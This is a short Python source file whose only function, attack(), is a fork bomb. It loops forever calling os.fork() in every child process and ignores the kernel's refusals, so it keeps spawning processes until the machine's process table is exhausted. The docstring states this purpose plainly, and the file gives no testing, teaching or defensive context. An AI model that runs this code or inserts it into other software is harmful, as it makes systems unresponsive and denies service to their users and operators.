"""Forks for ever, in every process it gets, and shrugs when the kernel says no."""

from __future__ import annotations

import os


def attack() -> None:
    while True:
        try:
            os.fork()
        except OSError:
            continue
